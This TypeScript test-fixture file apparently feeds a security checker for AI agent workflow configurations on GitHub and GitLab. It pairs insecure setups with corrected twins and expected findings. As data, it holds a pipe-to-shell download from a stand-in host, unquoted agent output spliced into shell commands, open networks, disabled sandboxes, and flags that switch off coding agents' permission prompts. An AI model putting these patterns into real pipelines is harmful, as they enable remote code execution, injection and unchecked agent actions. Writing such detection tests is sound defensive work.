/** Files, and those of a twin that differs in one part: what is reported of each, by level and rule. */
export interface FilePair {
  row: string;
  files: Readonly<Record<string, string>>;
  twin: Readonly<Record<string, string>>;
  found: readonly string[];
  /** Of the twin; left out: nothing. */
  other?: readonly string[];
}

const [ERROR, WARNING, INFO] = ['error', 'warning', 'info'].map(
  (level) => `${level} scope/remote-script`,
) as [string, string, string];
const PATH = '.github/workflows/triage.md';
const page = (matter: string) => ({
  [PATH]: `---\n${matter}\n---\n# Triage\n\nRead the issue and answer it.\n`,
});
const OPEN = 'on:\n  issues:\n    types: [opened]\n  roles: all\n';
const PUSH = 'on: push\n';
const COMMENT = 'safe-outputs:\n  add-comment:\n';
const PAT = '"${{ secrets.PAT }}"';
const COMMIT = '0123456789abcdef0123456789abcdef01234567';

type Short = [row: string, matter: string, twin: string, found: readonly string[], other?: readonly string[]];

const SHORT: readonly Short[] = [
  [
    'a workflow for people who triage',
    `${OPEN.replace('all', 'triage')}${COMMENT}`,
    `${OPEN.replace('all', 'write')}${COMMENT}`,
    [ERROR],
  ],
  [
    'an event in one line',
    `on: issue opened\nroles: all\n${COMMENT}`,
    `on: issue labeled bug\nroles: all\n${COMMENT}`,
    [ERROR],
  ],
  [
    'another workflow without branches that starts it, which the checks refuse',
    'on:\n  workflow_run:\n    workflows: [CI]\nstrict: false',
    'on:\n  workflow_run:\n    workflows: [CI]\nstrict: true',
    [WARNING],
  ],
  [
    'every bot that may start it, and every bot that may not',
    'on:\n  issues:\n    types: [opened]\n  bots: ["*"]',
    'on:\n  issues:\n    types: [opened]\n  skip-bots: ["*"]',
    [INFO],
  ],
  [
    'no limit of what a run costs, and one',
    `${PUSH}max-ai-credits: -1`,
    `${PUSH}max-ai-credits: 100`,
    [INFO],
  ],
  [
    'a comment that starts it, and a label',
    `on:\n  slash_command: fix\n  roles: all\n${COMMENT}`,
    `on:\n  label_command: fix\n  roles: all\n${COMMENT}`,
    [ERROR],
  ],
  [
    'an issue that starts it, and another workflow',
    `${OPEN}${COMMENT}`,
    `on:\n  workflow_run:\n    workflows: [CI]\n    branches: [main]\n  roles: all\n${COMMENT}`,
    [ERROR],
  ],
  [
    'names of labels on new issues',
    `on:\n  issues:\n    types: [opened]\n    names: [bug]\n  roles: all\n${COMMENT}`,
    `on:\n  issues:\n    types: [labeled]\n    names: [bug]\n  roles: all\n${COMMENT}`,
    [ERROR],
  ],
  ...['skip-author-associations: [NONE]', 'skip-if-match: "is:open"', 'steps: [{ run: "true" }]'].map(
    (filter): Short => [
      `\`${filter}\` is no check of the role`,
      `${OPEN}  ${filter}\n${COMMENT}`,
      `${OPEN.replace('all', 'write')}  ${filter}\n${COMMENT}`,
      [ERROR],
    ],
  ),
  [
    'forks with the rights of the repository',
    'on:\n  pull_request_target:\n    forks: ["*"]',
    'on:\n  pull_request:\n    forks: ["*"]',
    [ERROR],
    [WARNING],
  ],
  [
    'a right to use the model',
    `${PUSH}permissions: { issues: write }`,
    `${PUSH}permissions: { copilot-requests: write }`,
    [ERROR],
  ],
  [
    'a right to log in elsewhere',
    `${OPEN}permissions: { id-token: write }`,
    `${OPEN}permissions: { copilot-requests: write }`,
    [WARNING],
  ],
  [
    'a command of the engine from an address',
    `${PUSH}engine: { id: custom, command: "https://x.example.com/run.sh" }`,
    `${PUSH}engine: { id: custom, command: "./run.sh" }`,
    [WARNING],
  ],
  [
    'a bypass of Claude Code',
    `${PUSH}engine: { id: claude, args: ["--dangerously-skip-permissions"] }`,
    `${PUSH}engine: { id: claude, args: ["--verbose"] }`,
    [WARNING],
  ],
  [
    'commands, and the default list of them',
    `${PUSH}tools: { bash: true }`,
    `${PUSH}tools:\n  bash:`,
    ['warning scope/wildcard'],
  ],
  [
    'commands, and an empty list of them',
    `${PUSH}tools: { bash: ["*"] }`,
    `${PUSH}tools: { bash: [] }`,
    ['warning scope/wildcard'],
  ],
  [
    'a family of commands',
    `${PUSH}tools: { bash: ["git:*"] }`,
    `${PUSH}tools: { bash: ["git status"] }`,
    ['warning approval/auto-approved'],
  ],
  [
    'every command with an open network',
    `${PUSH}tools: { bash: [":*"] }\nnetwork: { allowed: ["*"] }`,
    `${PUSH}tools: { bash: [":*"] }\nnetwork: { allowed: [defaults] }`,
    ['error scope/wildcard', 'warning scope/open-network'],
    ['warning scope/wildcard'],
  ],
  [
    'every command without the firewall',
    `${PUSH}tools: { bash: [":*"] }\nnetwork: { firewall: false }`,
    `${PUSH}tools: { bash: [":*"] }\nnetwork: { firewall: true }`,
    ['error scope/wildcard', 'warning scope/open-network'],
    ['warning scope/wildcard'],
  ],
  [
    'every command for anyone',
    `${OPEN}tools: { bash: [":*"] }`,
    `${OPEN}tools: { bash: ["ls"] }`,
    [ERROR, 'warning scope/wildcard'],
  ],
  [
    'every command, and edits of files',
    `${PUSH}tools: { bash: true }`,
    `${PUSH}tools: { edit: }`,
    ['warning scope/wildcard'],
  ],
  [
    'pages that it fetches beside private repositories',
    `${PUSH}tools: { web-fetch: , github: { github-token: ${PAT} } }`,
    `${PUSH}tools: { web-search: , github: { github-token: ${PAT} } }`,
    [INFO],
  ],
  [
    'pages that it fetches with the token of the job',
    `${PUSH}tools: { web-fetch: , github: { github-token: ${PAT} } }`,
    `${PUSH}tools: { web-fetch: , github: { github-token: "\${{ secrets.GITHUB_TOKEN }}" } }`,
    [INFO],
  ],
  [
    'every set of tools of GitHub',
    `${PUSH}tools: { github: { toolsets: [all] } }`,
    `${PUSH}tools: { github: { toolsets: [default] } }`,
    ['warning scope/unrestricted-server'],
  ],
  [
    'names of tools with their calls',
    `${PUSH}tools: { github: { allowed: ["issue_read:1"] } }`,
    `${PUSH}tools: { github: { allowed: [{ name: issue_read, max-calls: 1 }] } }`,
    ['warning scope/ignored-setting'],
  ],
  [
    'a token of its own, for anyone',
    `${OPEN}tools: { github: { github-token: ${PAT} } }`,
    `${PUSH}tools: { github: { github-token: ${PAT} } }`,
    [WARNING],
  ],
  [
    'the token that the GitHub tools use by its name',
    `${OPEN}tools: { github: { github-token: "\${{ secrets.GH_AW_GITHUB_MCP_SERVER_TOKEN }}" } }`,
    `${OPEN}tools: { github: { github-token: "\${{ github.token }}" } }`,
    [WARNING],
  ],
  [
    'a token of its own, and what it writes is public',
    `${OPEN}tools: { github: { github-token: ${PAT} } }\n${COMMENT}`,
    `${OPEN}tools: { github: { github-token: ${PAT} } }\n${COMMENT}  staged: true\n`,
    [ERROR, ERROR],
    [WARNING],
  ],
  [
    'a token of its own for some repositories, by the older name',
    `${OPEN}tools: { github: { github-token: ${PAT} } }`,
    `${OPEN}tools: { github: { github-token: ${PAT}, repos: [a/b] } }`,
    [WARNING],
  ],
  [
    'text of any integrity, and approved text',
    `${PUSH}tools: { github: { min-integrity: none } }`,
    `${PUSH}tools: { github: { min-integrity: merged } }`,
    [WARNING],
  ],
  [
    'trusted people who are whoever came',
    `${PUSH}tools: { github: { trusted-users: ["\${{ github.actor }}"] } }`,
    `${PUSH}tools: { github: { trusted-users: [octocat] } }`,
    [WARNING],
  ],
  [
    'a memory in the repository',
    `${OPEN}tools: { repo-memory: true }`,
    `${PUSH}tools: { repo-memory: true }`,
    [INFO],
  ],
  [
    'a server without a version',
    `${PUSH}mcp-servers:\n  a: { command: npx, args: ["-y", "x-mcp"], allowed: [list_a] }`,
    `${PUSH}mcp-servers:\n  a: { command: npx, args: ["-y", "x-mcp@1.0.0"], allowed: [list_a] }`,
    ['info mcp/unpinned-package'],
  ],
  [
    'an open network, and none',
    `${PUSH}network: { allowed: ["*"] }`,
    `${PUSH}network: {}`,
    ['warning scope/open-network'],
  ],
  [
    'no sandbox, for anyone',
    `${OPEN}sandbox: { agent: false }`,
    `${PUSH}sandbox: { agent: false }`,
    [ERROR],
    [WARNING],
  ],
  ['no sandbox, in one word', `${PUSH}sandbox: false`, `${PUSH}sandbox: default`, [WARNING]],
  [
    'a secret in its variables',
    `${PUSH}env: { A: ${PAT} }`,
    `${PUSH}env: { A: "\${{ secrets.GITHUB_TOKEN }}" }`,
    [ERROR],
  ],
  ...['add-labels', 'remove-labels'].map(
    (output): Short => [
      `any label for anyone by \`${output}\``,
      `${OPEN}safe-outputs: { ${output}: {} }`,
      `${OPEN}safe-outputs: { ${output}: { allowed: [bug] } }`,
      [ERROR, INFO],
      [ERROR],
    ],
  ),
  [
    'any reviewer for anyone',
    `${OPEN}safe-outputs: { add-reviewer: {} }`,
    `${OPEN}safe-outputs: { add-reviewer: { reviewers: [octocat] } }`,
    [ERROR, INFO],
    [ERROR],
  ],
  [
    'any label, for people with a role',
    `${OPEN}safe-outputs: { add-labels: {} }`,
    `${OPEN.replace('all', 'write')}safe-outputs: { add-labels: {} }`,
    [ERROR, INFO],
  ],
  ...[
    'create-pull-request',
    'push-to-pull-request-branch',
    'merge-pull-request',
    'dispatch-workflow',
    'create-agent-session',
    'assign-to-agent',
    'update-release',
    'upload-asset',
  ].map(
    (output): Short => [
      `\`${output}\` without a review of the run`,
      `${OPEN}safe-outputs: { ${output}: {} }`,
      `${OPEN}  manual-approval: production\nsafe-outputs: { ${output}: {} }`,
      [ERROR],
    ],
  ),
  [
    'an app that writes in place of the job',
    `${OPEN}safe-outputs: { github-app: { app-id: 1 }, add-comment: {} }`,
    `${OPEN}safe-outputs: { add-comment: {} }`,
    [ERROR, WARNING],
    [ERROR],
  ],
  [
    'an output that a script contains',
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: 'echo "\${{ needs.agent.outputs.output }}"' }] } } }`,
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: 'echo "$A"', env: { A: "\${{ needs.agent.outputs.output }}" } }] } } }`,
    [ERROR],
  ],
  [
    'an output without quotes',
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: './x.sh $A', env: { A: "\${{ needs.agent.outputs.output }}" } }] } } }`,
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: './x.sh "$A"', env: { A: "\${{ needs.agent.outputs.output }}" } }] } } }`,
    [ERROR],
  ],
  [
    'an output of the file without quotes',
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: './x.sh $(jq -r .a $GH_AW_AGENT_OUTPUT)' }] } } }`,
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: './x.sh "$(jq -r .a $GH_AW_AGENT_OUTPUT)"' }] } } }`,
    [ERROR],
  ],
  ...(
    [
      ['in a command', './x.sh $(cat $GH_AW_AGENT_OUTPUT)', '# ./x.sh $(cat $GH_AW_AGENT_OUTPUT)'],
      [
        'whose file has quotes',
        './x.sh $(cat "$GH_AW_AGENT_OUTPUT")',
        './x.sh "$(cat "$GH_AW_AGENT_OUTPUT")"',
      ],
      ['by backquotes', './x.sh `cat $GH_AW_AGENT_OUTPUT`', './x.sh "a `cat $GH_AW_AGENT_OUTPUT`"'],
      [
        'among other words',
        './x.sh --text $(cat $GH_AW_AGENT_OUTPUT)',
        './x.sh "text $(cat $GH_AW_AGENT_OUTPUT)"',
      ],
      ['that is not only printed', './x.sh $(cat $GH_AW_AGENT_OUTPUT)', 'echo $(cat $GH_AW_AGENT_OUTPUT)'],
      ['that is not only assigned', './x.sh $(cat $GH_AW_AGENT_OUTPUT)', 'A=$(cat $GH_AW_AGENT_OUTPUT)'],
    ] as const
  ).map(([what, run, other]): Short => {
    const step = (text: string) => `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: '${text}' }] } } }`;
    return [`an output of the file without quotes, ${what}`, step(run), step(other), [ERROR]];
  }),
  [
    'a download in a job that gets the output',
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: 'curl -s https://x.example.com/a.sh | sh' }] } } }`,
    `${PUSH}safe-outputs: { jobs: { a: { steps: [{ run: 'npm ci' }] } } }`,
    [ERROR],
  ],
  [
    'a part of a branch',
    `${PUSH}imports: [acme/parts/shared/a.md@main]`,
    `${PUSH}imports: [acme/parts/shared/a.md@${COMMIT}]`,
    ['info mcp/unpinned-package'],
  ],
  [
    'a part of another repository, and one of this',
    `${PUSH}imports: [{ path: acme/parts/shared/a.md@v1 }]`,
    `${PUSH}imports: [{ path: shared/a.md }]`,
    ['info mcp/unpinned-package'],
  ],
  [
    'a plugin without a commit',
    `${PUSH}plugins: [acme/plugin]`,
    `${PUSH}plugins: [acme/plugin@${COMMIT}]`,
    ['info mcp/unpinned-package'],
  ],
  [
    'a skill without a commit',
    `${PUSH}skills: [acme/skills/a@main]`,
    `${PUSH}skills: [acme/skills/a@${COMMIT}]`,
    ['info mcp/unpinned-package'],
  ],
  [
    'an action of a runtime without a commit',
    `${PUSH}runtimes: { node: { action-repo: acme/setup-node } }`,
    `${PUSH}runtimes: { node: { action-repo: acme/setup-node, action-version: ${COMMIT} } }`,
    ['info mcp/unpinned-package'],
  ],
  ...['mcp-scripts', 'safe-inputs'].map(
    (key): Short => [
      `an input in the text of a script of \`${key}\``,
      `${PUSH}${key}: { look: { run: 'grep "\${{ inputs.word }}" a.txt' } }`,
      `${PUSH}${key}: { look: { run: 'grep "$INPUT_WORD" a.txt' } }`,
      [WARNING],
    ],
  ),
  [
    'an agent in a plain step',
    `${PUSH}steps:\n  - run: claude -p x --dangerously-skip-permissions`,
    `${PUSH}steps:\n  - run: claude -p x --allowedTools Read`,
    ['warning approval/auto-approved'],
  ],
  [
    'the head of a fork by its repository',
    'on:\n  pull_request_target:\ncheckout:\n  repository: "${{ github.event.pull_request.head.repo.full_name }}"',
    'on:\n  pull_request_target:\ncheckout: false',
    [ERROR],
  ],
];

const withFile = (
  row: string,
  matter: string,
  [path, text, other]: readonly [string, string, string],
  found: readonly string[],
  others: readonly string[] = [],
): FilePair => ({
  row: `4: ${row}`,
  files: { ...page(matter), [path]: text },
  twin: { ...page(matter), [path]: other },
  found,
  other: others,
});

const LABELED = (type: string) => `on:\n  issues:\n    types: [${type}]\njobs: {}\n`;

/** Agentic workflows of GitHub. */
export const AGENTIC: readonly FilePair[] = [
  ...SHORT.map(
    ([row, matter, twin, found, other = []]): FilePair => ({
      row: `4: ${row}`,
      files: page(matter),
      twin: page(twin),
      found,
      other,
    }),
  ),
  withFile(
    'checks that the settings of the repository force',
    `${PUSH}strict: false`,
    ['.github/workflows/aw.json', '{ "strict": false }', '{ "strict": true }'],
    [WARNING],
  ),
  withFile(
    'any label for anyone, where a label starts another workflow',
    `${OPEN}safe-outputs: { add-labels: {} }`,
    ['.github/workflows/deploy.yml', LABELED('labeled'), LABELED('opened')],
    [ERROR, WARNING],
    [ERROR, INFO],
  ),
  ...(
    [
      ['a comment names', LABELED('labeled'), `# Not for labeled ones.\n${LABELED('opened')}`],
      ['a step names', LABELED('labeled'), LABELED('opened').replace('{}', '{ a: { name: labeled } }')],
      ['a text lists', LABELED('labeled'), 'on: [issues, labeled]\njobs: {}\n'],
    ] as const
  ).map(([what, text, other]) =>
    withFile(
      `any label for anyone, where another workflow is started by the label that ${what}`,
      `${OPEN}safe-outputs: { add-labels: {} }`,
      ['.github/workflows/deploy.yml', text, other],
      [ERROR, WARNING],
      [ERROR, INFO],
    ),
  ),
  ...(
    [
      ['`label_command`', 'on:\n  label_command: fix\n', 'on:\n  slash_command: fix # no label_command\n'],
      ['one line', 'on: issue labeled bug\n', 'on: issue opened\n'],
      ['its front matter', 'on:\n  issues:\n    types: labeled\n', 'on: push\nname: labeled\n'],
    ] as const
  ).map(([what, text, other]) =>
    withFile(
      `any label for anyone, where a label starts another agentic workflow by ${what}`,
      `${OPEN}safe-outputs: { add-labels: {} }`,
      [
        '.github/workflows/fix.md',
        `---\n${text}---\nDo it.\n`,
        `---\n${other}---\nDo it, on what is labeled.\n`,
      ],
      [ERROR, WARNING],
      [ERROR, INFO],
    ),
  ),
  withFile(
    'checks that settings of something else do not force',
    `${PUSH}strict: false`,
    ['.github/workflows/aw.json', '{ "other": { "strict": true } }', '{ "strict": true }'],
    [WARNING],
  ),
];

const script = (text: string) => ({
  'package.json': JSON.stringify({ name: 'web', scripts: { agent: text } }),
});

/** Scripts that a person calls. */
export const SCRIPTS: readonly FilePair[] = ['crush --yolo', 'crush -y'].map((text) => ({
  row: `1.2: the script \`${text}\``,
  files: script(text),
  twin: script('crush'),
  found: ['warning approval/auto-approved'],
}));

const PIPELINE = '.gitlab-ci.yml';
const job = (rule: string, script: string) =>
  `review:\n  rules:\n    - ${rule}\n  script:\n    - ${script}\n`;
const OF_REQUESTS = 'if: $CI_PIPELINE_SOURCE == "merge_request_event"';
const OF_PEOPLE = 'if: $CI_PIPELINE_SOURCE == "web"';
const BYPASS = 'claude -p "Review." --dangerously-skip-permissions';
const gitlab = (
  row: string,
  shape: string,
  twin: string,
  found: readonly string[],
  other: readonly string[] = [],
): FilePair => ({
  row: `1.3: ${row}`,
  files: { [PIPELINE]: shape },
  twin: { [PIPELINE]: twin },
  found,
  other,
});

/** Pipelines of GitLab. */
export const GITLAB: readonly FilePair[] = [
  gitlab(
    'the job of the vendor for merge requests, and by hand',
    job(
      OF_REQUESTS,
      `'claude -p "\${AI_FLOW_INPUT:-Review.}" --permission-mode acceptEdits --allowedTools "Bash Read Edit Write mcp__gitlab" --debug'`,
    ),
    job(
      OF_PEOPLE,
      `'claude -p "\${AI_FLOW_INPUT:-Review.}" --permission-mode acceptEdits --allowedTools "Bash Read Edit Write mcp__gitlab" --debug'`,
    ),
    [WARNING, WARNING],
  ),
  gitlab(
    'every tool of the server of GitLab',
    job(OF_REQUESTS, 'claude -p "Review." --allowedTools "Read mcp__gitlab"'),
    job(OF_REQUESTS, 'claude -p "Review." --allowedTools "Read mcp__gitlab__get_issue"'),
    [WARNING],
  ),
  ...(['AI_FLOW_CONTEXT', 'AI_FLOW_INPUT'] as const).map((name) =>
    gitlab(
      `\`${name}\` without quotes, and the kind of the event`,
      job(OF_PEOPLE, `claude -p $${name}`),
      job(OF_PEOPLE, 'claude -p $AI_FLOW_EVENT'),
      [ERROR],
    ),
  ),
  gitlab(
    'the text of a comment that is only printed',
    job(OF_PEOPLE, 'claude -p $AI_FLOW_INPUT'),
    job(OF_PEOPLE, `'echo "$AI_FLOW_INPUT" && claude -p "Review."'`),
    [ERROR],
  ),
  gitlab(
    'H22: an option that switches questions off, for merge requests and by hand',
    job(OF_REQUESTS, BYPASS),
    job(OF_PEOPLE, BYPASS),
    [WARNING],
    ['warning approval/auto-approved'],
  ),
  gitlab(
    'H22: an option that switches questions off, in a job by hand',
    job(OF_PEOPLE, BYPASS),
    job(OF_PEOPLE, 'claude -p "Review."'),
    ['warning approval/auto-approved'],
  ),
  gitlab(
    'an option that switches questions off, on a schedule',
    job('if: $CI_PIPELINE_SOURCE == "schedule"', 'gemini --yolo -p "Review."'),
    job('if: $CI_PIPELINE_SOURCE == "schedule"', 'gemini -p "Review."'),
    ['warning approval/auto-approved'],
  ),
];
